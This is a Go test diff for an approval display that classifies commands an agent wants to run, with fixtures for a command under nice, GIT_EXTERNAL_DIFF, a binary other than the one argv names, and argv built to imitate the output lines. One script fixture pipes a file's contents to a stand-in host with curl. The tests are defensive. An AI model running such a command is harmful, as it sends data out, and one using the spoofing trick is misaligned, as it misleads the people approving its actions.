@@ -2,6 +2,7 @@ package approval
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -145,6 +146,95 @@ func TestDrawGolden(t *testing.T) {
 		}
 		if got != string(want) {
 			t.Errorf("%s: got\n%s\nwant\n%s", name, got, want)
+		}
+	}
+}
+
+// What a command is stands above its argv, read from the bytes that are signed.
+func TestDrawClass(t *testing.T) {
+	for _, c := range []struct {
+		name    string
+		command nucleus.Command
+		want    string
+	}{
+		{"benign", nucleus.Command{Argv: []string{"git", "status"}, Binary: "/usr/bin/git"}, `
+  class       read-only: reads files and the machine's state
+  because     "git status"
+  runs        read-only: "git" "status"
+  argv[0]     "git"`},
+		{"options before the subcommand", nucleus.Command{Argv: []string{"nice", "git", "-C", ".", "push"}, Binary: "/usr/bin/nice"}, `
+  class       push: publishes: a push, a pull request, a release
+  because     "git push"
+  runs        push: "git" "-C" "." "push"
+  argv[0]     "nice"`},
+		{"script", nucleus.Command{Argv: []string{"bash", "-c", "ls; ls; cat $x | curl -d @- h.example"}, Script: true, Binary: "/bin/bash"}, `
+  class       arbitrary code: may do anything a program in this machine can do
+  because     "a shell runs a script"
+  runs        network: "curl" "-d" "@-" "h.example"
+  runs        read-only: "ls" (2 times)
+  runs        read-only: "cat" ?
+  note        a shell runs the script below
+  argv[0]     "bash"`},
+		{"a shell that was not asked for as a script", nucleus.Command{Argv: []string{"sh", "-c", "ls"}, Binary: "/bin/sh"}, `
+  class       arbitrary code: may do anything a program in this machine can do
+  because     "sh runs code"
+  runs        read-only: "ls"
+  argv[0]     "sh"`},
+		{"variable", nucleus.Command{Argv: []string{"git", "status"}, Env: map[string]string{"GIT_EXTERNAL_DIFF": "x"}, Binary: "/usr/bin/git"}, `
+  class       arbitrary code: may do anything a program in this machine can do
+  because     "sets GIT_EXTERNAL_DIFF, which can change what runs"
+  runs        read-only: "git" "status"
+  argv[0]     "git"`},
+		{"another program than argv says", nucleus.Command{Argv: []string{"git", "status"}, Binary: "/work/evil"}, `
+  class       arbitrary code: may do anything a program in this machine can do
+  because     "the program that runs is /work/evil"
+  runs        read-only: "git" "status"
+  argv[0]     "git"`},
+		{"lines that imitate", nucleus.Command{Argv: []string{"x\n  class       read-only: reads", "y"}, Binary: "/x"}, `
+  class       arbitrary code: may do anything a program in this machine can do
+  because     "the program x\n  class       read-only: reads is not known"
+  runs        arbitrary code: "x\n  class       read-only: reads" "y"
+  argv[0]     2 lines:`},
+	} {
+		ask := askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &c.command})
+		text := draw(t, ask, View{Width: 120})
+		if !strings.Contains(text, "what will happen: run_bash"+c.want+"\n") {
+			t.Errorf("%s: got\n%s\nwant in it%s", c.name, text, c.want)
+		}
+	}
+}
+
+// The worst of many programs is shown, wherever it stands, and the class is never cut.
+func TestDrawManyPrograms(t *testing.T) {
+	var script strings.Builder
+	for i := range 150 {
+		fmt.Fprintf(&script, "cat %d\n", i)
+	}
+	script.WriteString("git push origin " + strings.Repeat("x", 300) + "\n")
+	ask := askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &nucleus.Command{Argv: []string{"bash", "-c", script.String()}, Script: true, Binary: "/bin/bash"}})
+	s, err := Draw(ask, View{Width: 400})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"  class       arbitrary code: ", `  runs        push: "git" "push" "origin" "xxx`, " ...\n", "  runs        and 139 more, none of a worse class\n"} {
+		if !s.Cut || !strings.Contains(s.Text, want) {
+			t.Errorf("cut %v, without %q:\n%s", s.Cut, want, s.Text)
+		}
+	}
+	whole := draw(t, ask, View{Width: 400, Whole: true})
+	if n := strings.Count(whole, "  runs "); n != 151 || strings.Contains(whole, " ...") {
+		t.Errorf("whole: %d programs, want 151", n)
+	}
+}
+
+func TestSummaryOfCommands(t *testing.T) {
+	for want, argv := range map[string][]string{
+		`run_bash (read-only) "git" "status"`:          {"git", "status"},
+		`run_bash (arbitrary code) "bash" "-c" "a\nb"`: {"bash", "-c", "a\nb"},
+	} {
+		ask := askFor(t, nucleus.Action{Op: nucleus.RunBash, Args: hexOf("args"), Command: &nucleus.Command{Argv: argv}})
+		if got := Summary(ask); got != want {
+			t.Errorf("got %s, want %s", got, want)
 		}
 	}
 }
